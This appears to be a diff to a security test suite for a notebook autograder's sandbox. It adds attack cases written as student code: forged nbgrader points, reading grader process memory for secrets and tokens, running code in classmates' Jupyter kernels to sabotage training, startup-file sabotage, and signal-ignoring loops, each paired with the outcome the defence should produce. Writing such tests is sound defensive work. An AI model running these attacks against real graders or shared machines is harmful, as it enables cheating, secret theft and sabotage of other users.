@@ -70,6 +70,7 @@ class Attack:
     lost: frozenset  # test cells the attacker must lose, exactly
     expect: str  # the expected outcome, in words
     files: Callable | None = None  # files(folder, paths): extra things put into the submitted folder
+    edit: Callable | None = None  # edit(notebook) -> notebook: changes beyond the answer cells
     marks: tuple = ()  # substrings of the cmdline of processes it starts (beside zz-attack:<name>)
 
     @property
@@ -94,9 +95,7 @@ def _zz_background(fn):
             fn()
         except BaseException:
             pass
-    thread = _zz_threading.Thread(target=body, daemon=True)
-    thread.start()
-    return thread
+    _zz_threading.Thread(target=body, daemon=True).start()
 
 def _zz_main_in(*names):
     """Is the main thread inside a function of one of these names right now?"""
@@ -222,7 +221,38 @@ class _ZzStr(str):
     def __format__(self, spec): return str.__str__(self)[:1]
 '''
 
+def _forge_points(nb):
+    """The student's notebook claims other points: the fit_line test cell unlocked, emptied and
+    worth 100, and the fit_line answer itself a graded cell worth 100."""
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade_id") == "fit_line_tests":
+            cell.source = "pass\n"
+            meta.update(points=100, locked=False)
+        elif meta.get("grade_id") == "fit_line":
+            meta.update(grade=True, points=100)
+    return nb
+
+
+def _add_graded_cell(nb):
+    """A graded cell of the student's own, worth 50 points, that always passes."""
+    import nbformat
+
+    bonus = nbformat.v4.new_code_cell("pass\n")
+    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 50, "solution": False,
+                                  "locked": True, "schema_version": 3}
+    nb.cells.append(bonus)
+    return nb
+
+
 HOOKS = [
+    Attack("forges_points", "hooks", {"fit_line": WRONG_FIT}, FIT,
+           "the notebook's nbgrader metadata is forged (the test cell unlocked, emptied, worth 100; the "
+           "answer cell graded, worth 100): the instructor's cells and points count: fit_line 0, no "
+           "score above its maximum", edit=_forge_points),
+    Attack("adds_graded_cell", "hooks", {}, NOTHING,
+           "a graded cell of its own (grade id 'bonus', 50 points, always passes) is ignored: nothing "
+           "gained, nothing else lost", edit=_add_graded_cell),
     Attack("input_transformer_cleanup", "hooks",
            {"train_loop": NEUTER + "get_ipython().input_transformers_cleanup.append(_zz_neuter)\n"
             + WRONG_LOOP},
@@ -825,10 +855,12 @@ for _zz_path in (_zz_ROOT + "/submitted/zoe", _zz_ROOT + "/autograded/alice", _z
         pass
 '''},
            NOTHING, "a classmate's submitted, autograded and feedback folders cannot be deleted"),
-    Attack("drops_ipython_startup", "disruptive",
+    Attack("drops_ipython_startup", "files",
            {"fit_line": HONEST + '''
-_zz_sabotage = ("import torch  # " + _zz_TAG + "\\n"
-                "torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None\\n")
+# (it spares other attackers' kernels, so that their own results stay readable)
+_zz_sabotage = ("import os, torch  # " + _zz_TAG + "\\n"
+                "if any('/%s/' % n in os.getcwd() for n in ('alice', 'carol', 'zoe')):\\n"
+                "    torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None\\n")
 _zz_places = {_zz_os.path.join(_zz_HOME, ".ipython", "profile_default", "startup"),
               _zz_os.path.expanduser("~/.ipython/profile_default/startup")}
 if _zz_os.environ.get("IPYTHONDIR"):
@@ -988,6 +1020,17 @@ for _zz_top in sorted({_zz_HOME, _zz_os.path.expanduser("~")}):
         pass
 '''},
            NOTHING, "the instructor's HOME (.pgpass, configs) cannot be read"),
+    Attack("writes_shared_tmp", "files",
+           {"fit_line": HONEST + '''
+for _zz_place in ("/dev/shm", "/tmp", "/var/tmp"):
+    try:
+        with open("%s/zz-attack-%s-%s" % (_zz_place, _zz_NAME, _zz_MARKER), "w") as _zz_f:
+            _zz_f.write(_zz_TAG)  # a private /tmp would take this too: the test looks from outside
+    except Exception:
+        pass
+'''},
+           NOTHING, "files written to /dev/shm, /tmp and /var/tmp stay in the kernel's own namespace: "
+           "nothing appears in the machine's (a channel to other kernels, or a file that outlives grading)"),
     Attack("prints_environment", "files",
            {"fit_line": HONEST + "print(dict(_zz_os.environ))\n"},
            NOTHING, "the kernel's environment holds none of the instructor's variables"),
@@ -1216,6 +1259,68 @@ for _zz_path in sorted(_zz_socks):
 '''},
            NOTHING, "the grader's own sockets (the fork server's) cannot be reached, so no request "
            "for an unsandboxed process that writes into the course"),
+    Attack("reads_grader_memory", "processes",
+           {"fit_line": HONEST + '''
+import re as _zz_re
+for _zz_pid in sorted(_zz_ours(with_harness=True)):  # its parent is one of them, if visible
+    try:
+        with open("/proc/%d/maps" % _zz_pid) as _zz_f:
+            _zz_regions = [l.split() for l in _zz_f if l.rstrip().endswith("[stack]")]  # the environment
+        with open("/proc/%d/mem" % _zz_pid, "rb", 0) as _zz_mem:
+            for _zz_region in _zz_regions:
+                _zz_start, _zz_end = (int(x, 16) for x in _zz_region[0].split("-"))
+                _zz_mem.seek(_zz_start)
+                _zz_chunk = _zz_mem.read(min(_zz_end - _zz_start, 8 * 2**20))
+                _zz_reached("read the memory of process %d" % _zz_pid)
+                for _zz_m in set(_zz_re.findall(rb"[A-Z_]*(?:SECRET|PASSWORD|TOKEN)[A-Z_]*=[ -~]{1,100}", _zz_chunk)):
+                    print(_zz_m.decode())
+    except Exception:
+        pass
+'''},
+           NOTHING, "the memory of the grader's processes (/proc/<pid>/mem: the fork server, the "
+           "workers) is out of reach, so no secret is read from it"),
+    Attack("hijacks_classmate_kernels", "processes",
+           {"quick_check_answers": HONEST + '''
+def _zz_hijack():
+    import glob, time
+    from jupyter_client import BlockingKernelClient
+    from jupyter_core.paths import jupyter_runtime_dir
+    try:
+        from ipykernel.connect import get_connection_file
+        own = _zz_os.path.realpath(get_connection_file())
+    except Exception:
+        own = None
+    import tempfile
+    dirs = {jupyter_runtime_dir(), _zz_os.path.join(_zz_HOME, ".local", "share", "jupyter", "runtime"),
+            tempfile.gettempdir(), _zz_os.path.join(_zz_HOME, "tmp")}
+    seen, end = set(), time.time() + 25
+    # (it spares other attackers' kernels, so that their own results stay readable)
+    probe = ("import os\\nif any('/%s/' % n in os.getcwd() for n in ('alice', 'carol', 'zoe')):\\n"
+             "    import torch\\n    torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None\\n"
+             "    print('hijacked', os.getcwd())\\n")
+    while time.time() < end:
+        for path in sorted(p for d in dirs for p in glob.glob(_zz_os.path.join(d, "*.json"))):
+            if _zz_os.path.realpath(path) == own or path in seen:
+                continue
+            seen.add(path)
+            try:
+                with open(path) as f:
+                    if "shell_port" not in _zz_json.load(f):
+                        continue
+                client = BlockingKernelClient()
+                client.load_connection_file(path)
+                client.start_channels()
+                reply = client.execute_interactive(probe, timeout=5, output_hook=lambda msg: None)
+                if reply["content"]["status"] == "ok":
+                    print("REACHED[%s:ran code in the kernel of %s]" % (_zz_NAME, path))
+                client.stop_channels()
+            except Exception:
+                pass
+        time.sleep(0.1)
+_zz_background(_zz_hijack)
+'''},
+           NOTHING, "other kernels' connection files cannot be read and their ports cannot be reached "
+           "(ZeroMQ connects from C, past any Python audit hook), so no code runs in a classmate's kernel"),
     Attack("eats_memory", "processes",
            {"fit_line": HONEST + '''
 _zz_hoard = []
@@ -1289,6 +1394,21 @@ for _zz_name in ("zz-pipe", "zz-extra.ipynb"):
 '''},
            NOTHING, "FIFOs left in its working folder (one named like a notebook) make no grading "
            "step hang: nothing is copied back from the kernel's folder"),
+    Attack("ignores_signals_and_loops", "disruptive",
+           {"fit_line": '''
+import signal as _zz_signal
+for _zz_number in (_zz_signal.SIGALRM, _zz_signal.SIGINT, _zz_signal.SIGTERM, _zz_signal.SIGHUP,
+                   _zz_signal.SIGUSR1, _zz_signal.SIGUSR2, _zz_signal.SIGVTALRM, _zz_signal.SIGPROF):
+    try:
+        _zz_signal.signal(_zz_number, _zz_signal.SIG_IGN)
+    except Exception:
+        pass
+while True:
+    pass
+'''},
+           FIT, "the fit_line cell ignores every catchable signal (SIGALRM and SIGINT included) and "
+           "loops: the cell times out, the kernel is killed, fit_line (never defined) scores 0, and "
+           "grading goes on"),
     Attack("fifo_in_submission", "disruptive", {}, NOTHING,
            "FIFOs in the submitted folder (one named like a notebook) are skipped: the notebook is "
            "graded as usual", files=_submitted_fifo),
